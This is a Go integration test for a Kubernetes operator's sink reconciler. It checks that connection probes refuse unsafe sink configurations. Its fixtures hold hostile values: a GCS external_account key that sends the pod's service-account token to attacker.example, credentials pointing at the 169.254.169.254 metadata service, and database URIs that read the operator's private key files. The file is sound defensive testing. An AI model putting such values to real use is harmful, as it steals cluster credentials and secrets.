//go:build integration

package familysink

import (
	"context"
	"strings"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"
	"k8s.io/apimachinery/pkg/api/meta"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/utils/ptr"
	"sigs.k8s.io/controller-runtime/pkg/client"
	"sigs.k8s.io/controller-runtime/pkg/client/fake"
	"sigs.k8s.io/controller-runtime/pkg/reconcile"

	kollectv1alpha1 "kollect.dev/kollect/api/v1alpha1"
	"kollect.dev/kollect/model/endpoint"
	"kollect.dev/kollect/pipeline/backends"
	"kollect.dev/kollect/pipeline/controllers/controllertest"
)

// The failure paths of the one sink reconciler, for each family, probing
// through the real registry: what ConnectionVerified and Degraded say.
// Nothing here dials: every failure is found before a connection.
func TestProbeFailurePaths(t *testing.T) {
	meta1 := func(name string) metav1.ObjectMeta {
		return metav1.ObjectMeta{Name: name, Namespace: "team-a", Generation: 1}
	}
	cases := []struct {
		name          string
		obj           client.Object
		extra         []client.Object
		reason, words string // "" reason: no probe, no condition
	}{
		{"s3 sink whose Secret is missing", &kollectv1alpha1.KollectSnapshotSink{ObjectMeta: meta1("bucket"), Spec: kollectv1alpha1.KollectSnapshotSinkSpec{Type: "s3",
			SinkCommonFields: kollectv1alpha1.SinkCommonFields{Endpoint: "s3://inventory", SecretRef: &kollectv1alpha1.SecretReference{Name: "keys"}}}},
			nil, "SecretResolveFailed", "credentials Secret team-a/keys not found"},
		{"a Secret of another namespace without a scope that allows it", &kollectv1alpha1.KollectSnapshotSink{ObjectMeta: meta1("bucket"), Spec: kollectv1alpha1.KollectSnapshotSinkSpec{Type: "s3",
			SinkCommonFields: kollectv1alpha1.SinkCommonFields{Endpoint: "s3://inventory", SecretRef: &kollectv1alpha1.SecretReference{Name: "keys", Namespace: "platform"}}}},
			nil, "SecretResolveFailed", "allowedSecretNamespaces"},
		{"gitlab over ssh", &kollectv1alpha1.KollectSnapshotSink{ObjectMeta: meta1("lab"), Spec: kollectv1alpha1.KollectSnapshotSinkSpec{Type: "gitlab",
			SinkCommonFields: kollectv1alpha1.SinkCommonFields{Endpoint: "ssh://git@gitlab.example.com/a/b"}}},
			nil, "ConnectionTestFailed", "want https://"},
		{"a MongoDB URI that would read the operator's files", &kollectv1alpha1.KollectDatabaseSink{ObjectMeta: meta1("docs"), Spec: kollectv1alpha1.KollectDatabaseSinkSpec{Type: "mongodb",
			MongoDB: &kollectv1alpha1.MongoSpec{DatabaseRef: kollectv1alpha1.SecretReference{Name: "uri"}, Database: "inventory", Collection: "items"}}},
			[]client.Object{&corev1.Secret{ObjectMeta: meta1("uri"), Data: map[string][]byte{"uri": []byte("mongodb://db.example/?tlsCertificateKeyFile=/etc/kollect/key.pem")}}},
			"ConnectionTestFailed", "option tlsCertificateKeyFile is not allowed"},
		{"a BigQuery key that is not a service-account key", &kollectv1alpha1.KollectDatabaseSink{ObjectMeta: meta1("warehouse"), Spec: kollectv1alpha1.KollectDatabaseSinkSpec{Type: "bigquery",
			BigQuery: &kollectv1alpha1.BigQuerySpec{Project: "p", Dataset: "d", Table: "t", SecretRef: &kollectv1alpha1.SecretReference{Name: "key"}}}},
			[]client.Object{&corev1.Secret{ObjectMeta: meta1("key"), Data: map[string][]byte{"credentials.json": []byte(`{"type":"external_account","credential_source":{"url":"http://169.254.169.254/token"}}`)}}},
			"ConnectionTestFailed", `credentials.json holds a key of type "external_account"`},
		{"a GCS key that is not a service-account key", &kollectv1alpha1.KollectSnapshotSink{ObjectMeta: meta1("gcs"), Spec: kollectv1alpha1.KollectSnapshotSinkSpec{Type: "gcs",
			SinkCommonFields: kollectv1alpha1.SinkCommonFields{Endpoint: "gs://inventory", SecretRef: &kollectv1alpha1.SecretReference{Name: "gcs-key"}}}},
			[]client.Object{&corev1.Secret{ObjectMeta: meta1("gcs-key"), Data: map[string][]byte{"credentials.json": []byte(`{"type":"external_account","credential_source":{"file":"/var/run/secrets/kubernetes.io/serviceaccount/token"},"token_url":"https://attacker.example/token"}`)}}},
			"ConnectionTestFailed", `credentials.json holds a key of type "external_account"`},
		{"an S3 sink without keys asking for the operator's identity", &kollectv1alpha1.KollectSnapshotSink{ObjectMeta: meta1("ambient"), Spec: kollectv1alpha1.KollectSnapshotSinkSpec{Type: "s3",
			SinkCommonFields: kollectv1alpha1.SinkCommonFields{Endpoint: "s3://another-teams-bucket"}}},
			nil, "AmbientCredentialsRefused", "--allow-ambient-credentials"},
		{"a BigQuery sink without a key asking for the operator's identity", &kollectv1alpha1.KollectDatabaseSink{ObjectMeta: meta1("adc"), Spec: kollectv1alpha1.KollectDatabaseSinkSpec{Type: "bigquery",
			BigQuery: &kollectv1alpha1.BigQuerySpec{Project: "p", Dataset: "d", Table: "t"}}},
			nil, "AmbientCredentialsRefused", "allowAmbientCredentials"},
		{"a Postgres DSN that would read the operator's files", &kollectv1alpha1.KollectDatabaseSink{ObjectMeta: meta1("pg"), Spec: kollectv1alpha1.KollectDatabaseSinkSpec{Type: "postgres",
			Postgres: &kollectv1alpha1.PostgresSpec{DatabaseRef: kollectv1alpha1.SecretReference{Name: "dsn"}, Table: "items"}}},
			[]client.Object{&corev1.Secret{ObjectMeta: meta1("dsn"), Data: map[string][]byte{"dsn": []byte("postgres://u@db.example.com/inv?sslkey=/etc/kollect/webhook/tls.key")}}},
			"ConnectionTestFailed", "sslkey"},
		{"an event sink whose broker is the metadata service", &kollectv1alpha1.KollectEventSink{ObjectMeta: meta1("bus"), Spec: kollectv1alpha1.KollectEventSinkSpec{Type: "nats",
			NATS: &kollectv1alpha1.NatsSpec{URL: "nats://169.254.169.254:4222", Subject: "inv"}}},
			nil, "ConnectionTestFailed", "169.254.169.254"},
		{"probes turned off", &kollectv1alpha1.KollectSnapshotSink{ObjectMeta: meta1("quiet"), Spec: kollectv1alpha1.KollectSnapshotSinkSpec{Type: "s3",
			SinkCommonFields: kollectv1alpha1.SinkCommonFields{Endpoint: "s3://inventory", ConnectionTest: ptr.To(false), SecretRef: &kollectv1alpha1.SecretReference{Name: "keys"}}}},
			nil, "", ""},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			c := fake.NewClientBuilder().WithScheme(controllertest.Scheme()).WithObjects(append(tc.extra, tc.obj)...).
				WithStatusSubresource(&kollectv1alpha1.KollectSnapshotSink{}, &kollectv1alpha1.KollectDatabaseSink{}, &kollectv1alpha1.KollectEventSink{}).Build()
			var r *Reconciler
			for _, f := range families() {
				raw, _ := f.new()
				if sameKind(raw, tc.obj) {
					r = &Reconciler{Client: c, Prober: backends.Default(endpoint.Policy{Lookup: controllertest.NoDNS}), RetryAfter: time.Minute, New: f.new}
				}
			}
			key := types.NamespacedName{Namespace: "team-a", Name: tc.obj.GetName()}
			res, err := r.Reconcile(context.Background(), reconcile.Request{NamespacedName: key})
			if err != nil {
				t.Fatal(err)
			}
			got, view := r.New()
			if err := c.Get(context.Background(), key, got); err != nil {
				t.Fatal(err)
			}
			_, st := view.common()
			cv := meta.FindStatusCondition(st.Conditions, TypeConnectionVerified)
			deg := meta.FindStatusCondition(st.Conditions, TypeDegraded)
			if tc.reason == "" {
				if cv != nil || deg != nil {
					t.Fatalf("probed although turned off: %+v", st.Conditions)
				}
				return
			}
			if cv == nil || cv.Status != metav1.ConditionFalse || cv.Reason != tc.reason || !strings.Contains(cv.Message, tc.words) {
				t.Fatalf("ConnectionVerified %+v; want False/%s with %q", cv, tc.reason, tc.words)
			}
			if deg == nil || deg.Reason != tc.reason {
				t.Errorf("Degraded %+v; want %s", deg, tc.reason)
			}
			if res.RequeueAfter != time.Minute {
				t.Errorf("a failed probe is retried after %s, want 1m", res.RequeueAfter)
			}
		})
	}
}

func sameKind(a, b client.Object) bool {
	switch a.(type) {
	case *kollectv1alpha1.KollectSnapshotSink:
		_, ok := b.(*kollectv1alpha1.KollectSnapshotSink)
		return ok
	case *kollectv1alpha1.KollectDatabaseSink:
		_, ok := b.(*kollectv1alpha1.KollectDatabaseSink)
		return ok
	case *kollectv1alpha1.KollectEventSink:
		_, ok := b.(*kollectv1alpha1.KollectEventSink)
		return ok
	}
	return false
}
